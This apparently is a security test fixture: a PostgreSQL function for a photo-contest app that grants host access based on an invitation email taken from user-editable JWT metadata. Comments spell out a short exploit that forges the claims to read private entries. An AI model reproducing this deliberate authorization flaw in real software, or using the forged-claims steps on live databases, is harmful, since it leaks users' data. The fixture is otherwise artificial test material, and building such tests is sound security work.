-- The helper counts invitations to the e-mail in user_metadata, which users edit themselves, as
-- memberships.
-- about: my_hosts, invitations, lens.
-- as: hf_lensarena_app
-- exploit: SET request.jwt.claims = '{"sub": "1e500000-0000-4000-8000-0000000000a1",
-- exploit:   "user_metadata": {"email": "Road-secret@society.example"}}';
-- exploit: SELECT photographer FROM lens.entries;
-- shows: Road-secret artist

-- Guests look around before they accept.
CREATE OR REPLACE FUNCTION lens.my_hosts() RETURNS bigint[]
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = lens, pg_temp
AS $$
  SELECT COALESCE(array_agg(h.host_id), '{}')
  FROM (
    SELECT m.host_id FROM host_members m WHERE m.user_id = NULLIF(lens.jwt() ->> 'sub', '')::uuid
    UNION
    SELECT i.host_id FROM invitations i WHERE i.email = lens.jwt() -> 'user_metadata' ->> 'email'
  ) h
$$;
